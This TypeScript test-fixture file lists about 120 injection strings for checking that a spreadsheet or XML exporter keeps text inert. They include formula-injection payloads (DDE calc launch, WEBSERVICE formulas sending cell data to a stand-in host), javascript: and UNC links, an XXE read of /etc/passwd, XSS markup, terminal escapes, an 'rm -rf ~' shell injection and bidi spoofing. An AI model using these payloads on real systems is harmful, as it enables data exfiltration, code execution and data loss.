/** What a text tries to become. */
export type InjectionKind = 'formula' | 'link' | 'xml' | 'markup' | 'terminal' | 'direction';

/** A text that somebody may put into a workbook to make it do something, where it should only be read. */
export interface Injection {
  readonly kind: InjectionKind;
  readonly text: string;
}

/** Texts that a spreadsheet program takes for a formula when they are typed, pasted or read from CSV (OWASP, CWE-1236). */
const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  "'=1+1",
  '"=1+1"',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"A0")',
  '=WEBSERVICE("http://198.51.100.7/?x="&A1)',
  '=IMPORTXML("http://198.51.100.7/","//a")',
  '=HYPERLINK("http://198.51.100.7/?x="&A1,"Bấm vào đây")',
  "='[http://198.51.100.7/a.xlsx]Sheet1'!A1",
  '=_xlfn.SINGLE(A1)',
  '"&WEBSERVICE("http://198.51.100.7/")&"',
  '{=1+1}',
  '#REF!',
  '1e5',
  '01/02/2026',
];

/** Addresses that open or run something else than a document of the web, openly or in disguise. */
const LINKS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\u200B:alert(1)',
  'javascript%3Aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///C:/Windows/System32/calc.exe',
  'file://198.51.100.7/share/a.xlsx',
  'ms-excel:ofe|u|http://198.51.100.7/a.xlsm',
  'ms-word:ofv|u|http://198.51.100.7/a.docm',
  'ms-msdt:/id PCWDiagnostic',
  'search-ms:query=a&crumb=location:\\\\198.51.100.7\\share',
  '\\\\198.51.100.7\\share\\a.pdf',
  '//198.51.100.7/share/a.pdf',
  'C:\\Windows\\System32\\calc.exe',
  'https://example.vn@198.51.100.7/a.pdf',
  'https://example.vn\\@198.51.100.7/a.pdf',
  'https://example.vn/%00%0d%0aSet-Cookie:a=b',
  'https://example.vn/a" onmouseover="alert(1)',
  'https://example.vn/\r\nX: y',
  'https://example.vn/\u202Efdp.exe',
  'mailto:a@example.vn?subject=%0d%0aBcc:b@example.org',
  '#javascript:alert(1)',
];

/** Texts that break XML, or read otherwise than they were written, where somebody forgets to escape. */
const XML: readonly string[] = [
  ']]>',
  '<![CDATA[x]]>',
  '&amp;&lt;&#x0;&#65;',
  '&lol;',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  '<?xml version="1.0"?>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '</definedName><definedName name="x">',
  '"/><hyperlink ref="A1" r:id="rId1"/>',
  '_x0041_ _x000D_ _x005F_x0041_ _xD83D_',
  '\u0000\u0001\u0008\u000B\u000C\u000E\u001F',
  '\u007F\u0080\u0085\u009F',
  '\uD83D',
  '\uDE00\uD83D',
  '\uFFFE\uFFFF',
  ' xmlns:x="urn:a" x:y="z" ',
  '  hai  đầu  ',
  'dòng\rmột\r\nhai\nba\u2028bốn',
  '%d %s {name} {name|points} $& $1 $$ \\1',
  '__proto__',
  'constructor',
  `dài ${'ẩ'.repeat(3_000)}`,
];

/** Markup that a page must show and never run. */
const MARKUP: readonly string[] = [
  '<script>globalThis.ran=1</script>',
  '<img src=x onerror="globalThis.ran=1">',
  '<svg onload="globalThis.ran=1"><a xlink:href="javascript:globalThis.ran=1">a</a></svg>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<a href="javascript:globalThis.ran=1">bấm</a>',
  '<style>*{display:none}</style>',
  '"><script>globalThis.ran=1</script>',
  "'-globalThis.ran-'",
  '${globalThis.ran=1}',
  '{{globalThis.ran=1}}',
  'javascript:globalThis.ran=1//',
];

/** Sequences that a terminal obeys: colours, titles, clearing, links, answers, and the one-byte forms of C1. */
const TERMINAL: readonly string[] = [
  '\u001B[31mđỏ\u001B[0m',
  '\u001B[2J\u001B[H',
  '\u001B[8mẩn\u001B[28m',
  '\u001B]0;tiêu đề\u0007',
  '\u001B]8;;http://198.51.100.7/\u0007bấm\u001B]8;;\u0007',
  '\u001B]52;c;Y2FsYw==\u0007',
  '\u001B[6n',
  '\u001BPq\u001B\\',
  '\u009B31mđỏ\u009B0m',
  '\u009D0;tiêu đề\u009C',
  'a\u0008\u0008b\rc',
  '\u000E\u000F',
  '"; rm -rf ~ #',
  '$(calc) `calc` %COMSPEC%',
];

/** Marks that turn the reading direction or hide themselves, and letters that look like others. */
const DIRECTIONS: readonly string[] = [
  '\u202Efdp.exe',
  '\u202D12\u202C',
  'a\u202Ab\u202Bc',
  '\u2066a\u2067b\u2068c',
  'a\u2069\u2069\u2069b',
  '\u200Fa\u200Eb\u061Cc',
  '\u202E\u2066\u2069\u202C',
  'Sở\u200BKhoa\u200Chọc\u200D\u2060\uFEFF',
  '\u0421\u0421\u041D\u0421',
  'B\u00E1o c\u0430o',
  '\u05D0\u05D1 12 \u05D2',
  'e\u0301'.repeat(20),
];

const of = (kind: InjectionKind, texts: readonly string[]): readonly Injection[] =>
  texts.map((text) => ({ kind, text }));

/** The corpus: some hundred and twenty texts, every one of which must stay the text that it is. */
export const INJECTIONS: readonly Injection[] = [
  ...of('formula', FORMULAS),
  ...of('link', LINKS),
  ...of('xml', XML),
  ...of('markup', MARKUP),
  ...of('terminal', TERMINAL),
  ...of('direction', DIRECTIONS),
];

/** How a test names one: its signs spelt out, and no longer than a line. */
export const spelt = (text: string): string =>
  JSON.stringify(text)
    .replace(/[^ -~\p{L}]|\p{Co}/gu, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`)
    .slice(0, 80);
